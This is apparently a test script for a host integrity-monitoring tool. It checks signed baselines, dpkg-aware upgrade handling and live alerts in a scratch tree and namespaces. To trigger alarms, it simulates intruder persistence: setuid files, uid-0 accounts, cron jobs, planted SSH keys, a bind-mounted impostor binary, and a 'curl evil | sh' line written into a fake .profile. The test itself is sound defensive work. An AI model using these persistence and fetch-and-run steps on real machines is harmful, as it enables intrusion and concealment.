#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# redoubt host baseline and host watch: a tree of files that is changed in every way, dpkg's records of an upgrade, and
# a machine of its own (namespaces) with real listeners, programs and log-ins.
set -uo pipefail
cd "$(dirname "$0")/.."
source tests/lib.sh

work=$(mktemp -d)
pids=()
end_all() {
	[ ${#pids[@]} = 0 ] || kill "${pids[@]}" 2>/dev/null
	rm -rf -- "$work"
}
trap end_all EXIT
tree=$work/tree
signed=(--baseline /var/lib/redoubt/host.baseline --key /etc/redoubt/baseline.pub --copy /mnt/elsewhere/host.baseline)

# --- a tree -------------------------------------------------------------------------------------------------------

md5() { md5sum <"$1" | cut -d' ' -f1; }

tree_make() {
	mkdir -p "$tree"/{etc/{redoubt,ssh,cron.d,systemd/system},usr/{bin,sbin},usr/lib/systemd/system,root/.ssh,home/alice/.ssh} \
		"$tree"/{var/{lib/{dpkg/info,redoubt},log,spool/cron},mnt/elsewhere,srv,proc}
	ln -s usr/bin "$tree/bin"
	printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1001:1001::/home/alice:/bin/bash\n' >"$tree/etc/passwd"
	printf 'root:x:0:\nsudo:x:27:alice\n' >"$tree/etc/group"
	echo host.example >"$tree/etc/hostname"
	echo 'ssh-ed25519 AAAAC3Nz alice' >"$tree/home/alice/.ssh/authorized_keys"
	echo 'PermitRootLogin no' >"$tree/etc/ssh/sshd_config"
	echo 'sudo 1.9.13' >"$tree/usr/bin/sudo"
	echo 'tool 1.0' >"$tree/usr/bin/tool"
	echo 'sshd 9.2' >"$tree/usr/sbin/sshd"
	printf 'a name with blanks\n' >"$tree/usr/bin/odd name%"
	chmod 4755 "$tree/usr/bin/sudo"
	chmod 755 "$tree/usr/bin/tool" "$tree/usr/sbin/sshd"
	echo '[Service]' >"$tree/usr/lib/systemd/system/ssh.service"
	printf 'Package: tool\nStatus: install ok installed\nVersion: 1.0\n\nPackage: openssh-server\nVersion: 9.2\n' >"$tree/var/lib/dpkg/status"
	echo "$(md5 "$tree/usr/bin/tool")  usr/bin/tool" >"$tree/var/lib/dpkg/info/tool.md5sums"
	printf '/.\n/usr\n/usr/bin\n/usr/bin/tool\n' >"$tree/var/lib/dpkg/info/tool.list"
	echo '2026-09-20 10:00:00 status installed tool:amd64 1.0' >"$tree/var/log/dpkg.log"
	: >"$tree/var/log/auth.log"
}

baseline_sign() { # NUMBER [OPTION...]: makes, signs and puts both copies in place
	local number=$1
	shift
	"$redoubt" host baseline make --root "$tree" --out "$work/draft.$number" "$@" &&
		"$redoubt" host baseline sign "$work/draft.$number" --key "$work/key" --out "$work/signed.$number" &&
		cp "$work/signed.$number" "$tree/var/lib/redoubt/host.baseline" && cp "$work/signed.$number" "$tree/mnt/elsewhere/host.baseline"
}
scope=/etc,/usr,/bin,/var/spool/cron,/root/.profile,/root/.config/systemd
checked() { "$redoubt" host baseline check --root "$tree" "${signed[@]}"; }
once() { "$redoubt" --json host watch --root "$tree" "${signed[@]}" --once >"$work/out"; }
clean() { once && jq -se 'length == 1 and .[0].alarms == 0' "$work/out"; }
# alarm_of WHAT CHANGE SUBJECT: exit code 1, and this alarm among those told.
alarm_of() {
	once
	[ $? = 1 ] && told "$work/out" "$@"
}
told() { # FILE WHAT CHANGE SUBJECT
	jq -se --arg what "$2" --arg change "$3" --arg subject "$4" \
		'any(.[]; .what == $what and .change == $change and (.subject | startswith($subject)) and .alarm)' "$1" || { cat "$1"; return 1; }
}
code_is() { # CODE COMMAND...
	local wanted=$1 code
	shift
	"$@"
	code=$?
	[ $code = "$wanted" ] || { echo "exit code $code"; return 1; }
}

"$redoubt" host baseline keygen "$work/key" 2>/dev/null || exit 1
"$redoubt" host baseline keygen "$work/stranger" 2>/dev/null || exit 1
tree_make
echo 1790000000 >"$tree/.now" && mkdir "$tree/facts" && mv "$tree/.now" "$tree/facts/now"
cp "$work/key.pub" "$tree/etc/redoubt/baseline.pub"
ok "a baseline is drafted, signed, and kept in two places" baseline_sign 1 --first --scope "$scope"
ok "it holds" checked
ok "what did not change gives no alarm" clean
ok "it shows its kinds" bash -c '"$1" host baseline show "$2" | grep -q "2 user"' sh "$redoubt" "$work/signed.1"
refuses "a draft is not signed again" "signed already" "$redoubt" host baseline sign "$work/signed.1" --key "$work/key" --out "$work/again"

# --- a baseline that is not to be trusted -----------------------------------------------------------------------------

here=$tree/var/lib/redoubt/host.baseline
sed -i 's/^file \/usr\/bin\/tool 0755/file \/usr\/bin\/tool 4755/' "$here"
refuses "a baseline that was tampered with is refused" "signature" checked
ok "and watching ends with 3" code_is 3 once
"$redoubt" host baseline sign "$work/draft.1" --key "$work/stranger" --out "$here" >/dev/null
refuses "a stranger's signature is refused" "signature" checked
cp "$work/draft.1" "$here"
refuses "a draft is refused" "not signed" checked
head -c 300 "$work/signed.1" >"$here"
refuses "half a baseline is refused" "host.baseline" checked
cp "$work/signed.1" "$here"
ok "a second baseline follows the first" baseline_sign 2 --scope "$scope"
ok "it has number 2" bash -c '"$1" --json host baseline show "$2" | jq -e ".sequence == 2"' sh "$redoubt" "$here"
cp "$work/signed.1" "$here"
refuses "a baseline that was rolled back is refused" "put an old one back" checked
ok "and watching ends with 3" code_is 3 once
cp "$work/signed.2" "$here"
cp "$work/signed.1" "$tree/mnt/elsewhere/host.baseline"
refuses "an older copy is refused, too" "renew the copy" checked
baseline_sign fork --scope "$scope" >/dev/null
cp "$work/signed.2" "$tree/mnt/elsewhere/host.baseline"
cp "$work/signed.1" "$here"
"$redoubt" host baseline make --root "$tree" --baseline /var/lib/redoubt/host.baseline --copy /var/lib/redoubt/host.baseline \
	--out "$work/draft.2b" --scope /etc >/dev/null
"$redoubt" host baseline sign "$work/draft.2b" --key "$work/key" --out "$here" >/dev/null
refuses "two successors of one baseline are told apart" "not the copy's successor" checked
rm "$tree/mnt/elsewhere/host.baseline"
refuses "a copy that is gone is no pass" "could not be read" checked
cp "$work/signed.2" "$here"
cp "$work/signed.2" "$tree/mnt/elsewhere/host.baseline"
ok "the right pair holds again" checked

# --- changes ----------------------------------------------------------------------------------------------------------

try() { # DESCRIPTION WHAT CHANGE SUBJECT COMMAND: changed in a copy of the tree, then put back
	local what=$1
	cp -a "$tree" "$work/before"
	eval "$5"
	ok "$what" alarm_of "$2" "$3" "$4"
	rm -rf "$tree"
	mv "$work/before" "$tree"
}
try "a changed program" file changed /usr/bin/tool 'echo evil >"$tree/usr/bin/tool"'
try "a changed program of the same size and time" file changed /usr/bin/tool \
	'touch -r "$tree/usr/bin/tool" "$work/time"; printf "tool 6.6\n" >"$tree/usr/bin/tool"; touch -r "$work/time" "$tree/usr/bin/tool"'
try "a program that was taken away" file removed /usr/sbin/sshd 'rm "$tree/usr/sbin/sshd"'
try "a changed configuration" ssh changed /etc/ssh/sshd_config 'echo "PermitRootLogin yes" >>"$tree/etc/ssh/sshd_config"'
try "a file with an odd name" file changed /usr/bin/odd%20name%25 'echo >>"$tree/usr/bin/odd name%"'
try "other rights" file changed /usr/bin/tool 'chmod 777 "$tree/usr/bin/tool"'
try "a new setuid file outside the scope" setuid new /srv/.hidden 'cp "$tree/usr/bin/tool" "$tree/srv/.hidden"; chmod 4755 "$tree/srv/.hidden"'
try "a setuid bit on a program that was there" setuid new /usr/bin/tool 'chmod u+s "$tree/usr/bin/tool"'
try "a new user" user new eve 'echo "eve:x:1002:1002::/home/eve:/bin/bash" >>"$tree/etc/passwd"'
try "a user who became root" user changed alice 'sed -i "s/^alice:x:1001/alice:x:0/" "$tree/etc/passwd"'
try "a new group" group new wheel 'echo "wheel:x:100:eve" >>"$tree/etc/group"'
try "a member more" group changed sudo 'sed -i "s/^sudo.*/&,eve/" "$tree/etc/group"'
try "a new unit" unit new /etc/systemd/system/evil.service 'echo "[Service]" >"$tree/etc/systemd/system/evil.service"'
try "a job for cron" cron new /etc/cron.d/evil 'echo "* * * * * root id" >"$tree/etc/cron.d/evil"'
try "a key for log-in" login-key new /home/alice/.ssh/authorized_keys 'echo "ssh-ed25519 AAAAC3Nx eve" >>"$tree/home/alice/.ssh/authorized_keys"'
try "a key of root's" login-key new /root/.ssh/authorized_keys2 'echo "command=\"id\" ssh-rsa AAAAB3 eve" >"$tree/root/.ssh/authorized_keys2"'
try "a link that leads elsewhere" link changed /bin 'ln -sfn /tmp "$tree/bin"'
try "a pipe among the files" node new /usr/bin/pipe 'mkfifo "$tree/usr/bin/pipe"'
running() { # PID EXE-TARGET
	mkdir -p "$tree/proc/$1"
	printf 'Name:\ttool\nUid:\t0\t0\t0\t0\n' >"$tree/proc/$1/status"
	ln -s "$2" "$tree/proc/$1/exe"
}
try "a program that runs and whose file is deleted" running deleted /tmp/x 'running 66 "/tmp/x (deleted)"'
try "a program that runs from memory" running deleted /memfd:x 'running 66 "/memfd:x (deleted)"'
try "a program that runs and is not in the baseline" running outside /srv/miner 'cp "$tree/usr/bin/tool" "$tree/srv/miner"; running 66 /srv/miner'
ok "after all that, the tree is clean" clean

# --- an upgrade ---------------------------------------------------------------------------------------------------------

# dpkg's records count when they were written while it ran: by the inode's change time, which is now
now=$(date -u '+%F %T')
upgrade() {
	echo 'tool 2.0' >"$tree/usr/bin/tool"
	echo "$(md5 "$tree/usr/bin/tool")  usr/bin/tool" >"$tree/var/lib/dpkg/info/tool.md5sums"
	sed -i 's/^Version: 1.0/Version: 2.0/' "$tree/var/lib/dpkg/status"
}
cp -a "$tree" "$work/before"
upgrade
ok "what looks like an upgrade but is not in dpkg's log is an alarm" alarm_of file changed /usr/bin/tool
echo "$now status installed openssh-server:amd64 9.2" >>"$tree/var/log/dpkg.log"
ok "another package's upgrade explains nothing" alarm_of file changed /usr/bin/tool
echo "$now status installed tool:amd64 1.9" >>"$tree/var/log/dpkg.log"
ok "nor does another version's" alarm_of file changed /usr/bin/tool
echo "$now status installed tool:amd64 2.0" >>"$tree/var/log/dpkg.log"
upgraded() { once && jq -se 'any(.[]; .subject == "/usr/bin/tool" and .upgrade and (.alarm | not)) and (.[-1].upgrades == 1)' "$work/out"; }
ok "an upgrade by dpkg makes no noise and is listed" upgraded
echo 'tool 2.0 evil' >"$tree/usr/bin/tool"
ok "other content in the name of an upgrade is an alarm" alarm_of file changed /usr/bin/tool
upgrade
chmod 4755 "$tree/usr/bin/tool"
ok "an upgrade that brings a setuid bit is an alarm" alarm_of setuid new /usr/bin/tool
chmod 755 "$tree/usr/bin/tool"
echo '2026-09-20 09:00:00 status installed tool:amd64 2.0' >"$tree/var/log/dpkg.log"
ok "an upgrade from before the baseline explains nothing" alarm_of file changed /usr/bin/tool
echo "$now status installed tool:amd64 2.0" >>"$tree/var/log/dpkg.log"
mkdir -p "$tree/proc/70" && printf 'Name:\ttool\nUid:\t0\t0\t0\t0\n' >"$tree/proc/70/status" && ln -s '/usr/bin/tool (deleted)' "$tree/proc/70/exe"
restart_wanted() { once; jq -se 'any(.[]; .what == "running" and .upgrade and (.alarm | not))' "$work/out"; }
ok "the old program that still runs is a restart, no alarm" restart_wanted
rm -r "$tree/proc/70"
ok "the next baseline takes the upgrade" baseline_sign 3 --scope "$scope"
ok "and then there is nothing to say" clean
rm -rf "$tree"
mv "$work/before" "$tree"

# --- what was taken away, and by whom -------------------------------------------------------------------------------------

busy="$now status installed openssh-server:amd64 9.2" # another package's upgrade
gone="$now status not-installed tool:amd64 <none>"
log() { printf '%s\n' "$@" >>"$tree/var/log/dpkg.log"; }
tool_goes() { rm "$tree/usr/bin/tool" "$tree/var/lib/dpkg/info/tool.md5sums" "$tree/var/lib/dpkg/info/tool.list" "$tree/etc/tool.conf"; }
cp -a "$tree" "$work/unlisted"
echo tool >"$tree/etc/tool.conf"
ln -s /usr/bin/tool "$tree/etc/systemd/system/tool"
echo /etc/tool.conf >>"$tree/var/lib/dpkg/info/tool.list"
ok "a baseline says who had what" baseline_sign 4 --scope "$scope,/var/lib/dpkg/info"
ok "by its package's name" grep -qx 'owner /usr/bin/tool tool' "$work/signed.4"
ok "and there is nothing to say" clean
try "what no package had is missed, whatever was upgraded since" ssh removed /etc/ssh/sshd_config \
	'log "$busy"; rm "$tree/etc/ssh/sshd_config"'
try "and when every package's record of it is gone, too" file removed /usr/bin/tool \
	'log "$busy"; rm "$tree/usr/bin/tool" "$tree/var/lib/dpkg/info/"tool.*'
try "what its package still lists was not taken by an upgrade" file removed /etc/tool.conf \
	'log "$now status installed tool:amd64 1.0"; rm "$tree/etc/tool.conf"'
try "a changed list of a package that the log does not name" file changed /var/lib/dpkg/info/tool.list \
	'log "$busy"; sed -i "/tool.conf/d" "$tree/var/lib/dpkg/info/tool.list"'
try "a changed digest of a package that the log does not name" file changed /var/lib/dpkg/info/tool.md5sums \
	'log "$busy"; echo "$(md5 "$tree/etc/group")  usr/bin/more" >>"$tree/var/lib/dpkg/info/tool.md5sums"'
hour_ago=$(date -u -d '1 hour ago' '+%F %T')
try "a digest that was written when dpkg did not run vouches for nothing" file changed /usr/bin/tool \
	'upgrade; log "$hour_ago status installed tool:amd64 2.0"'
cp -a "$tree" "$work/before"
tool_goes
log "$gone"
quiet() { once; [ $? = 0 ] && jq -se '.[-1].alarms == 0 and any(.[]; .subject == "/usr/bin/tool" and .change == "removed" and .upgrade)' "$work/out" || { cat "$work/out"; return 1; }; }
ok "a package that was removed took along what it had" quiet
rm "$tree/etc/systemd/system/tool"
ok "and links that led to it" quiet
rm -rf "$tree"
mv "$work/before" "$tree"
rm -rf "$tree"
mv "$work/unlisted" "$tree"

# --- promptness -----------------------------------------------------------------------------------------------------------

spool=$work/alerts.jsonl
within() { # SECONDS COMMAND...
	local until=$((SECONDS + $1))
	shift
	while [ $SECONDS -le $until ]; do
		"$@" >/dev/null 2>&1 && return
		sleep 0.1
	done
	"$@"
}
"$redoubt" host watch --root "$tree" "${signed[@]}" --every 3600 --full 86400 --spool "$spool" >/dev/null 2>"$work/errors" &
pids+=($!)
# the second full pass, behind inotify's beginning, touches the spool no more: wait until the process sleeps in poll
within 10 grep -q 'cold-address' "$work/errors"
sleep 1
started=$(date +%s%N)
echo evil >"$tree/usr/bin/tool"
ok "the kernel tells of a changed program: no interval is waited for" within 5 told "$spool" file changed /usr/bin/tool
echo "# told after $((($(date +%s%N) - started) / 1000000)) ms"
mkdir -p "$tree/etc/systemd/system/new.target.wants" && echo x >"$tree/etc/systemd/system/new.target.wants/evil.service"
ok "and of a file in a directory that was not there before" within 5 told "$spool" unit new /etc/systemd/system/new.target.wants/evil.service
echo 'curl evil | sh' >"$tree/root/.profile"
ok "and of a single file of the scope that was not there" within 5 told "$spool" file new /root/.profile
mkdir -p "$tree/root/.config/systemd/user" && echo x >"$tree/root/.config/systemd/user/evil.service"
ok "and of a folder of the scope whose parents were not there" within 5 told "$spool" file new /root/.config/systemd/user/evil.service
echo ls >"$tree/root/.bash_history"
cp "$tree/usr/sbin/sshd" "$work/genuine" && echo evil >"$tree/usr/sbin/sshd" && cat "$work/genuine" >"$tree/usr/sbin/sshd"
ok "and of a program that was changed and put back at once" within 5 told "$spool" file put-back /usr/sbin/sshd
chmod u+s "$tree/usr/sbin/sshd"
ok "and of a setuid bit" within 5 told "$spool" file changed /usr/sbin/sshd
cp "$tree/usr/bin/tool" "$tree/srv/hidden" && chmod 4755 "$tree/srv/hidden"
rolls() { touch "$tree/etc/hostname" && told "$spool" setuid new /srv/hidden; } # a look, without waiting for the interval
ok "a setuid file outside the scope is found by the walk that never ends" within 8 rolls
line='Sep 22 10:00:00 host sshd[812]: Accepted publickey for alice from 198.51.100.7 port 50022 ssh2: ED25519 SHA256:abc'
echo "$line" >>"$tree/var/log/auth.log"
touch "$tree/etc/hostname" # wakes it
ok "a neighbour of that file is nobody's business" jq -se 'all(.[]; .subject != "/root/.bash_history")' "$spool"
login_told() { jq -se 'any(.[]; .what == "login" and .change == "accepted" and .subject == "alice" and .after == "198.51.100.7")' "$spool"; }
ok "a log-in is told" within 5 login_told
ok "an alarm is told once" jq -se '[.[] | select(.subject == "/usr/bin/tool" and .what == "file")] | length == 1' "$spool"
cp "$work/signed.1" "$here"
touch "$tree/etc/hostname"
ok "a baseline that is put back while it watches is an alarm" within 5 told "$spool" baseline refused -
kill "${pids[0]}" 2>/dev/null
code=0
wait "${pids[0]}" || code=$?
pids=()
ok "it ends by SIGTERM, and says by its exit code that there were alarms" test $code = 1
ok "the file of alerts is private" test "$(stat -c %a "$spool")" = 600
ln -s /etc/passwd "$work/link"
refuses "a link is no file of alerts" "cannot be opened" "$redoubt" host watch --root "$tree" "${signed[@]}" --once --spool "$work/link"

# --- a machine of its own ---------------------------------------------------------------------------------------------------

if [ "$(id -u)" != 0 ] || ! unshare -nmpf --mount-proc true 2>/dev/null; then
	skip "listeners, programs and their files, live" "namespaces need root"
	finish
fi
cat >"$work/live.sh" <<'LIVE'
set -u
cd "$2"
ip link set lo up
mkdir scope
cp /bin/sleep scope/daemon
./scope/daemon 300 & daemon=$!
cp /bin/sleep scope/twin
./scope/twin 300 & twin=$!
echo genuine >scope/settings
"$1" host baseline make --first --scope "$2/scope" --out live.draft >/dev/null
"$1" host baseline sign live.draft --key key --out live.signed >/dev/null
sleep 1.2 # the baseline's time is in seconds
echo evil >scope/settings && echo genuine >scope/settings # before anybody watches
"$1" host watch --baseline live.signed --key key.pub --copy live.signed --every 1 --full 3600 --spool live.jsonl >/dev/null 2>&1 & watch=$!
sleep 1.5
python3 -c 'import socket, time
a = socket.create_server(("127.0.0.1", 4444)); b = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); b.bind(("::1", 4445)); time.sleep(20)' & listener=$!
cp /bin/sleep scope/other
mv scope/other scope/daemon
cp /bin/sleep gone && ./gone 300 & gone=$!
cp /bin/tail impostor # runs by the twin's name, where nobody else sees it
unshare -m bash -c 'mount --bind impostor scope/twin && exec ./scope/twin -f /dev/null' & impostor=$!
unshare -m bash -c 'mount --bind /usr/bin/tail /usr/bin/sleep && exec /usr/bin/sleep -f /dev/null' & masked=$!
sleep 1
"$1" --json host check --only FIM-01 >check.json 2>&1
kill $masked
rm gone
sleep 2.5
kill $listener $daemon $gone $twin $impostor $watch
wait
LIVE
unshare -nmpf --mount-proc bash "$work/live.sh" "$redoubt" "$work" >"$work/live.out" 2>&1
live() { told "$work/live.jsonl" "$@"; }
ok "a new TCP listener is told, with its program" bash -c 'jq -se "any(.[]; .what == \"listener\" and .change == \"new\" and .subject == \"tcp:127.0.0.1:4444\" and (.after | contains(\"python\")))" "$1"' sh "$work/live.jsonl"
ok "a new UDP listener over IPv6 is told" live listener new udp:::1:4445
ok "a running program whose file was replaced is told" live running deleted "$work/scope/daemon"
ok "a file that was changed and put back when nobody watched is told by its inode" live file put-back "$work/scope/settings"
ok "another program behind a running one's name, in a namespace of its own, is told" live running changed "$work/scope/twin"
skip_or_masked() { [ -e /var/lib/dpkg/info/coreutils.md5sums ] || return 0; grep -qE '/usr/bin/sleep is not what package coreutils shipped' "$work/check.json" || { cat "$work/check.json"; return 1; }; }
ok "and FIM-01 sees what runs, too" skip_or_masked
ok "a running program whose file was deleted is told" live running deleted "$work/gone"
finish
